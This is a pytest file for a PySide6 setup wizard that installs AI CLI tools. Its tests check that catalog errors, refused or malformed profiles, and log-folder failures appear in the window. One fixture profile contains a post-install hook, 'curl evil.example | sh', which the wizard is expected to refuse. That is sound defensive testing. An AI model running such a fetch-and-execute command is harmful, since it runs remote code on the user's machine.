"""A broken catalog or a refused profile at start-up is shown in the window, not only on stderr."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from PySide6.QtGui import QDesktopServices, QGuiApplication
from PySide6.QtWidgets import QWizard

from app.core.resources import resource_path
from app.ui.app import load_core
from app.ui.wizard import ERROR, WELCOME, SetupWizard


@pytest.fixture
def broken_catalog(tmp_path):
    """A copy of the shipped catalog with one bad value, as a damaged download would have."""
    folder = tmp_path / "catalog"
    shutil.copytree(resource_path("catalog"), folder)
    tools = folder / "tools.toml"
    text = tools.read_text(encoding="utf-8")
    old = 'npm_package = "@google/gemini-cli"'
    assert old in text
    tools.write_text(text.replace(old, 'npm_pakage = "@google/gemini-cli"', 1), encoding="utf-8")
    return folder


@pytest.fixture
def wizard(qtbot, qloop):
    wizard = SetupWizard()  # no operations: the core has not loaded

    def settle() -> None:
        wizard.tasks.cancel_all()
        qtbot.waitUntil(lambda: len(wizard.tasks) == 0, timeout=5000)

    qtbot.addWidget(wizard, before_close_func=lambda _w: settle())
    wizard.show()
    return wizard


def test_a_broken_catalog_is_shown_in_the_window_with_file_key_reason_and_log(
    wizard, broken_catalog, capsys, monkeypatch
):
    opened = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url) or True)
    problem = load_core(wizard, None, catalog_folder=broken_catalog)
    assert problem is not None and problem.exit_code == 1
    assert not wizard.has_ops
    assert wizard.currentId() == ERROR
    page = wizard.error_page
    assert page.title() == "The wizard cannot start"
    summary = page.summary.text()
    assert f"File: {broken_catalog / 'tools.toml'}" in summary
    assert "Key: tools.gemini-cli.npm_pakage" in summary
    assert "Reason: unknown key" in summary
    assert "Download ai-cli-setup again and reinstall it" in page.advice.text()
    assert page.advice.isVisible()
    # The log has the error too, and the page says where it is.
    logs = _logs()
    assert len(logs) == 1 and str(logs[0]) in page.where.text()
    assert "npm_pakage" in logs[0].read_text(encoding="utf-8")
    assert not page.retry.isVisible()  # nothing to continue without
    page.open_logs.click()
    assert opened and opened[0].toLocalFile() == str(logs[0].parent)
    page.copy.click()
    copied = QGuiApplication.clipboard().text()
    assert "Key: tools.gemini-cli.npm_pakage" in copied and "What to do:" in copied
    assert wizard.button(QWizard.WizardButton.FinishButton).isVisible()
    # A terminal, if there is one, gets the same lines.
    err = capsys.readouterr().err
    assert "Key: tools.gemini-cli.npm_pakage" in err and "What to do:" in err


def _logs():
    import os
    from pathlib import Path

    return sorted((Path(os.environ["AI_CLI_SETUP_HOME"]) / "logs").glob("*.log"))


def test_a_refused_profile_is_shown_and_the_wizard_can_continue_without_it(
    wizard, tmp_path, monkeypatch
):
    profile = tmp_path / "room.toml"
    profile.write_text('[tools.gemini-cli]\npost_install = "curl evil.example | sh"\n')
    problem = load_core(wizard, str(profile))
    assert problem is not None and problem.exit_code == 2
    assert wizard.currentId() == ERROR
    page = wizard.error_page
    assert f"File: {profile}" in page.summary.text()
    assert "Key: tools.gemini-cli.post_install" in page.summary.text()
    assert "start ai-cli-setup without a profile" in page.advice.text()
    assert page.retry.isVisible()
    started = []
    monkeypatch.setattr(wizard, "start_detection", lambda: started.append(True))
    page.retry.click()
    assert wizard.has_ops and wizard.ops.profile is None
    assert wizard.currentId() == WELCOME and started == [True]


def test_an_unreadable_profile_names_the_file(wizard, tmp_path):
    folder = tmp_path / "profile.toml"
    folder.mkdir()  # reading it fails, even as root
    problem = load_core(wizard, str(folder))
    assert problem is not None
    assert f"File: {folder}" in wizard.error_page.summary.text()
    assert "cannot be read" in wizard.error_page.summary.text()


@pytest.mark.parametrize("kind", ["nested", "endless", "long name"])
def test_a_profile_too_deep_endless_or_too_long_is_refused_in_the_window(wizard, tmp_path, kind):
    profile = tmp_path / "room.toml"
    if kind == "endless":
        profile = Path("/dev/zero")
        if not profile.exists():
            pytest.skip("no /dev/zero here")
        reason = "cannot be read: it is a device, not a file"
    elif kind == "nested":
        profile.write_text("x = " + "[" * 100_000 + "]" * 100_000 + "\n[tools.codex-cli]\n")
        reason = "not valid TOML (values nested too deeply)"
    else:
        profile.write_text(f'name = "{"n" * 10_000}"\n[tools.codex-cli]\n')
        reason = "is 10000 characters long; at most 200 are allowed"
    problem = load_core(wizard, str(profile))
    assert problem is not None and problem.exit_code == 2
    assert wizard.currentId() == ERROR
    summary = wizard.error_page.summary.text()
    assert f"File: {profile}" in summary and f"Reason: {reason}" in summary
    assert wizard.error_page.retry.isVisible()


def test_a_log_folder_that_cannot_be_written_is_shown(wizard, tmp_path, monkeypatch):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("")
    monkeypatch.setenv("AI_CLI_SETUP_HOME", str(blocker))
    problem = load_core(wizard, None)
    assert problem is not None and wizard.currentId() == ERROR
    page = wizard.error_page
    assert str(blocker / "logs") in page.summary.text()
    assert "AI_CLI_SETUP_HOME" in page.advice.text()
    assert page.where.text() == "No log file was open."
    assert not page.open_logs.isEnabled()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
def test_a_log_on_a_full_disk_is_shown_and_nothing_starts(wizard, tmp_path, monkeypatch):
    monkeypatch.setenv("AI_CLI_SETUP_HOME", str(tmp_path / "app"))
    full = lambda _handler: open("/dev/full", "w", encoding="utf-8")  # noqa: E731, SIM115
    monkeypatch.setattr("app.core.logs._RunLogHandler._open", full)
    problem = load_core(wizard, None)
    assert problem is not None and problem.exit_code == 1
    assert not wizard.has_ops and wizard.currentId() == ERROR
    summary = wizard.error_page.summary.text()
    assert f"File: {tmp_path / 'app' / 'logs' / 'run-'}" in summary
    assert "Reason: the disk is full" in summary
    assert "Free some disk space" in wizard.error_page.advice.text()
    assert wizard.error_page.where.text() == "No log file was open."


def test_a_good_start_sets_the_operations_and_stays_on_welcome(wizard):
    assert load_core(wizard, None) is None
    assert wizard.has_ops and wizard.currentId() == WELCOME


def test_an_unexpected_error_is_not_dressed_up_as_a_startup_problem(wizard, monkeypatch):
    def broken(*_args, **_kwargs):
        raise KeyError("a bug")

    monkeypatch.setattr("app.core.startup.open_session", broken)
    with pytest.raises(KeyError):
        load_core(wizard, None)
